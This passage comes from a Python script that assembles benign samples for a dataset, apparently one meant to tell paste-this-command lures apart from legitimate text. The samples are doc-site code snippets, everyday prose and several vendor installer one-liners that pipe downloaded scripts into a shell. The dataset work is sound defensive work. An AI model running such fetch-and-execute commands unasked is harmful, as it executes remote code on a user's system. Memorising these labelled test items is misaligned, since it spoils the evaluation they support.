        "https://pandas.pydata.org/docs/user_guide/groupby.html",
        "df.groupby(['region', 'month'])['revenue'].sum().unstack().round(0)",
    ),
    (
        "https://fastapi.tiangolo.com/tutorial/first-steps/",
        'from fastapi import FastAPI\n\napp = FastAPI()\n\n@app.get("/items/{item_id}")\nasync def read_item(item_id: int, q: str | None = None):\n    return {"item_id": item_id, "q": q}',
    ),
    (
        "https://docs.djangoproject.com/en/5.1/topics/db/queries/",
        "Order.objects.filter(created__date=today).select_related('customer').order_by('-total')[:20]",
    ),
    (
        "https://docs.pytest.org/en/stable/how-to/fixtures.html",
        "@pytest.fixture\ndef client(tmp_path):\n    app = create_app({'DATABASE': tmp_path / 'test.db'})\n    return app.test_client()",
    ),
    (
        "https://go.dev/doc/tutorial/web-service-gin",
        "func getAlbums(c *gin.Context) {\n\tc.IndentedJSON(http.StatusOK, albums)\n}",
    ),
    (
        "https://gobyexample.com/http-server",
        'http.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {\n\tw.WriteHeader(http.StatusOK)\n\tfmt.Fprintln(w, "ok")\n})\nlog.Fatal(http.ListenAndServe(":8080", nil))',
    ),
    (
        "https://gobyexample.com/errors",
        'if err != nil {\n\treturn fmt.Errorf("load config %q: %w", path, err)\n}',
    ),
    (
        "https://doc.rust-lang.org/book/ch09-02-recoverable-errors-with-result.html",
        'fn parse_port(s: &str) -> Result<u16, String> {\n    s.parse::<u16>().map_err(|e| format!("bad port {s:?}: {e}"))\n}',
    ),
    (
        "https://docs.rs/serde_json/latest/serde_json/",
        'let v: Value = serde_json::from_str(data)?;\nprintln!("Please call {} at the number {}", v["name"], v["phones"][0]);',
    ),
    (
        "https://react.dev/reference/react/useEffect",
        "useEffect(() => {\n  const id = setInterval(() => setNow(new Date()), 1000);\n  return () => clearInterval(id);\n}, []);",
    ),
    (
        "https://react.dev/learn/sharing-state-between-components",
        "export default function Accordion() {\n  const [activeIndex, setActiveIndex] = useState(0);\n  return <Panel isActive={activeIndex === 0} onShow={() => setActiveIndex(0)} />;\n}",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Statements/async_function",
        "async function loadUser(id) {\n  const res = await fetch(`/api/users/${id}`);\n  if (!res.ok) throw new Error(`HTTP ${res.status}`);\n  return res.json();\n}",
    ),
    (
        "https://expressjs.com/en/starter/hello-world.html",
        "app.use(express.json({ limit: '1mb' }))\napp.post('/api/feedback', (req, res) => {\n  store.save(req.body)\n  res.status(201).end()\n})",
    ),
    (
        "https://www.typescriptlang.org/docs/handbook/2/generics.html",
        "function firstOrDefault<T>(items: T[], fallback: T): T {\n  return items.length > 0 ? items[0] : fallback;\n}",
    ),
    (
        "https://vuejs.org/guide/essentials/reactivity-fundamentals.html",
        "<script setup>\nimport { ref } from 'vue'\nconst count = ref(0)\n</script>\n\n<template>\n  <button @click=\"count++\">{{ count }}</button>\n</template>",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/csharp/",
        "var orders = await db.Orders\n    .Where(o => o.CreatedAt >= DateTime.UtcNow.AddDays(-7))\n    .OrderByDescending(o => o.Total)\n    .Take(10)\n    .ToListAsync();",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/api/system.io.file.readalllines",
        'foreach (var line in File.ReadAllLines(@"C:\\data\\input.txt"))\n{\n    Console.WriteLine(line.Trim());\n}',
    ),
    (
        "https://docs.oracle.com/javase/tutorial/essential/io/file.html",
        'List<String> lines = Files.readAllLines(Path.of("config.properties"), StandardCharsets.UTF_8);',
    ),
    (
        "https://spring.io/guides/gs/rest-service",
        '@GetMapping("/greeting")\npublic Greeting greeting(@RequestParam(defaultValue = "World") String name) {\n    return new Greeting(counter.incrementAndGet(), String.format(template, name));\n}',
    ),
    (
        "https://kotlinlang.org/docs/coroutines-basics.html",
        'fun main() = runBlocking {\n    launch { delay(1000L); println("World!") }\n    println("Hello")\n}',
    ),
    (
        "https://docs.swift.org/swift-book/",
        "struct Point: Codable { var x: Double; var y: Double }\nlet data = try JSONEncoder().encode(Point(x: 1, y: 2))",
    ),
    (
        "https://www.php.net/manual/en/pdo.prepared-statements.php",
        "$stmt = $pdo->prepare('UPDATE carts SET updated_at = NOW() WHERE id = ?');\n$stmt->execute([$cartId]);",
    ),
    (
        "https://guides.rubyonrails.org/active_record_querying.html",
        "Customer.where(active: true).order(created_at: :desc).limit(10).pluck(:email)",
    ),
    (
        "https://www.gnu.org/software/bash/manual/bash.html",
        "#!/usr/bin/env bash\nset -euo pipefail\n\nfor host in web01 web02 web03; do\n  ssh \"$host\" 'sudo systemctl is-active nginx'\ndone",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/learn/ps101/09-functions",
        "function Get-DiskFree {\n    param([string]$ComputerName = $env:COMPUTERNAME)\n    Get-CimInstance Win32_LogicalDisk -ComputerName $ComputerName -Filter 'DriveType=3' |\n        Select-Object DeviceID, @{n='FreeGB';e={[math]::Round($_.FreeSpace/1GB,1)}}\n}",
    ),
    (
        "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/store-information-in-variables",
        '- name: Set version\n  run: echo "VERSION=$(git describe --tags)" >> "$GITHUB_ENV"',
    ),
    (
        "https://www.lua.org/pil/",
        'local function greet(name)\n  return string.format("Hello, %s!", name or "world")\nend\nprint(greet("Ana"))',
    ),
    (
        "https://cran.r-project.org/doc/manuals/r-release/R-intro.html",
        'df <- read.csv("sales.csv")\naggregate(revenue ~ region, data = df, FUN = sum)',
    ),
    (
        "https://docs.julialang.org/en/v1/manual/functions/",
        "function mean_sq(xs)\n    return sum(x -> x^2, xs) / length(xs)\nend",
    ),
    (
        "https://en.cppreference.com/w/cpp/algorithm/sort",
        "auto it = std::find_if(users.begin(), users.end(), [&](const User& u) { return u.id == wanted; });",
    ),
    (
        "https://learn.microsoft.com/en-us/office/vba/api/excel.range.value",
        'Sub HighlightOverdue()\n    Dim c As Range\n    For Each c In Range("D2:D400")\n        If c.Value < Date Then c.Interior.Color = RGB(255, 220, 220)\n    Next c\nEnd Sub',
    ),
    ("https://support.google.com/docs/answer/3093318", "=VLOOKUP(A2, Prices!A:C, 3, FALSE)"),
    (
        "https://support.microsoft.com/en-us/office/xlookup-function",
        '=XLOOKUP(E2, Employees[ID], Employees[Email], "not found")',
    ),
    (
        "https://docs.python.org/3/library/re.html",
        "PHONE = re.compile(r'^\\+?[0-9 ()-]{7,20}$')\nif not PHONE.match(value):\n    raise ValueError('invalid phone number')",
    ),
    ("https://regex101.com/", "^(?<user>[\\w.+-]+)@(?<domain>[\\w-]+\\.[\\w.-]+)$"),
]

# Well-known vendors' installers as tutorials and answers quote them (not the vendor's own page)
TUTORIAL_INSTALLERS: list[tuple[str, str]] = [
    (
        "https://www.digitalocean.com/community/tutorials/how-to-install-node-js-on-ubuntu",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash && source ~/.bashrc && nvm install 22",
    ),
    (
        "https://www.freecodecamp.org/news/how-to-install-rust/",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --default-toolchain stable",
    ),
    (
        "https://www.freecodecamp.org/news/how-to-install-homebrew-on-mac/",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" && eval "$(/opt/homebrew/bin/brew shellenv)"',
    ),
    (
        "https://realpython.com/python-uv/",
        "curl -LsSf https://astral.sh/uv/install.sh | sh && uv --version",
    ),
    (
        "https://tailscale.com/kb/1031/install-linux",
        "curl -fsSL https://tailscale.com/install.sh | sh && sudo tailscale up",
    ),
    (
        "https://ohmyz.sh/#install",
        'sh -c "$(wget https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh -O -)"',
    ),
    ("https://k3s.io/", "curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC='--disable traefik' sh -"),
    (
        "https://learn.microsoft.com/en-us/dotnet/core/install/linux-scripted-manual",
        "wget https://dot.net/v1/dotnet-install.sh -O dotnet-install.sh && chmod +x ./dotnet-install.sh && ./dotnet-install.sh --channel 9.0",
    ),
    ("https://starship.rs/guide/", "curl -sS https://starship.rs/install.sh | sh -s -- --yes"),
]

PROSE: list[tuple[str | None, str]] = [
    (
        None,
        "Meeting notes 7 Dec: agreed to move the release to Thursday; Maria owns the changelog, Jonas the rollback plan. Open question: do we need a feature flag for the new checkout?",
    ),
    (
        None,
        "Dear Mr. Lindqvist, thank you for your application. We would like to invite you to an interview on Tuesday 16 December at 10:00 in our Stockholm office. Please confirm by reply.",
    ),
    (
        None,
        "Abstract: We present a lightweight method for detecting anomalous login patterns using per-user baselines. On three months of data it reduces false positives by 38% compared to a global threshold.",
    ),
    (
        None,
        "Recipe: 200 g flour, 2 eggs, 300 ml milk, a pinch of salt. Whisk, rest for 30 minutes, fry thin in butter. Makes about 10 crêpes.",
    ),
    (
        None,
        "Shopping list: oat milk, coffee beans, lemons, dish soap, batteries (AA), birthday card for Grandma",
    ),
    (
        None,
        "Release notes 2.14.0: new CSV export for invoices; the date picker now respects the week start of your locale; fixed a crash when a product had no image.",
    ),
    (
        None,
        "Hi all, please submit your December expenses by Friday. Receipts go in the finance folder, not by email. Questions to Petra.",
    ),
    (None, "The quick brown fox jumps over the lazy dog. Pack my box with five dozen liquor jugs."),
    (
        None,
        "Address: Storgatan 12, 114 55 Stockholm, Sweden. Door code 4411, 3rd floor, ring 'Berg'.",
    ),
    (
        None,
        "Job ad: Senior Backend Engineer (Python/Go), hybrid in Berlin. You will own our payments platform and mentor two juniors. Salary range 85-100k EUR.",
    ),
    (
        None,
        "Sed ut perspiciatis unde omnis iste natus error sit voluptatem accusantium doloremque laudantium, totam rem aperiam.",
    ),
    (
        None,
        "Wir freuen uns, Ihnen mitteilen zu können, dass Ihr Antrag genehmigt wurde. Die Unterlagen erhalten Sie in den nächsten Tagen per Post.",
    ),
    (
        None,
        "Chers collègues, la réunion de fin d'année aura lieu le 18 décembre à 17h dans la grande salle. Un apéritif suivra.",
    ),
    (None, "Tracking number: 1Z999AA10123456784"),
    (None, "Bankgiro 5050-1055, OCR 4411208813 (faktura 2026-118)"),
    (None, "Wi-Fi: Guest-Acme / password: SummerRain2026!"),
    (None, "Flight LH 2411 MUC→ARN, 19 Dec, dep 07:25, seat 14C, booking ref K7QZ2P"),
    (
        None,
        "Thanks for your patience today - I've attached the updated quote. The price includes installation and a 2-year warranty. Let me know if you'd like to go ahead.",
    ),
    (
        None,
        "To-do: renew domain acme-shop.com (expires 2027-01-04), rotate the deploy key, update the on-call rota for January.",
    ),
    (None, "Agenda\n1. Q4 numbers\n2. Hiring plan 2027\n3. Office move (March)\n4. AOB"),
]


def all_benign() -> list[Benign]:
    rows: list[Benign] = []
    for source, text in INSTALLERS:
        rows.append((OWN, TERM, source, text))
    groups: list[tuple[str, str, list[tuple[str | None, str]]]] = [
        ("admin-powershell", TERM, ADMIN_PS),
        ("admin-cmd", TERM, ADMIN_CMD),
        ("shell-oneliner", TERM, SHELL),
        ("package-manager", TERM, PACKAGES),
        ("docker-k8s-cloud", TERM, DOCKER_K8S),
        ("git", TERM, GIT),
        ("sql", OTHER, SQL),
        ("config", OTHER, CONFIG),
        ("console-js", CON, CONSOLE_JS),
        ("url", UNK, URLS),
        ("run-box-plain", RUN, RUN_BOX),
        ("explorer-path", EXP, EXPLORER),
        ("security-writing", OTHER, SECURITY_WRITING),
        ("support-mail", OTHER, SUPPORT_MAIL),
        ("oauth-docs", OTHER, OAUTH_DOCS),
        ("chat", OTHER, CHAT),
        ("log", OTHER, LOGS),
        ("code", OTHER, CODE),
        ("installer-tutorial", TERM, list(TUTORIAL_INSTALLERS)),
        ("prose", OTHER, PROSE),
    ]
    for kind, target, items in groups:
        for source, text in items:
            rows.append((kind, target, source, text))
    return rows


def benign_rows() -> list[dict[str, str]]:
    return _benign_rows(PREFIX, all_benign())


if __name__ == "__main__":
    main(PREFIX, all_lures(), all_benign(), LURES_OUT, BENIGN_OUT)
